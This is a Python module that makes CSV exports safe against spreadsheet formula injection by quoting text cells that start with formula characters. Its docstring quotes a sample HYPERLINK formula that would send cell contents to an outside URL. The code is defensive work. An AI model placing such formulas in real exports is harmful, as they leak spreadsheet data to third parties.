"""CSV files written for spreadsheets, safe to open (OWASP "CSV injection").

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel and LibreOffice as a formula: a note ``=HYPERLINK("http://…"&A1,"klik")``
would become a live link that leaks the sheet. Such cells get a leading single quote, so
the spreadsheet shows them as text. Numbers are written as numbers (a negative balance
stays ``-5``): only ``str`` cells are text."""

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # Excel opens UTF-8 correctly only with it


class _Text(Protocol):
    def write(self, text: str, /) -> Any: ...


def safe_cell(value: Any) -> Any:
    """``value``, with a text cell that a spreadsheet would run as a formula made inert."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose text cells cannot start a formula."""

    def __init__(self, file: _Text, *, delimiter: str = ";") -> None:
        self._writer = csv.writer(file, delimiter=delimiter)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: _Text, *, delimiter: str = ";") -> SafeWriter:
    """The writer of every CSV export (semicolons by default, as Excel in Indonesia)."""
    return SafeWriter(file, delimiter=delimiter)
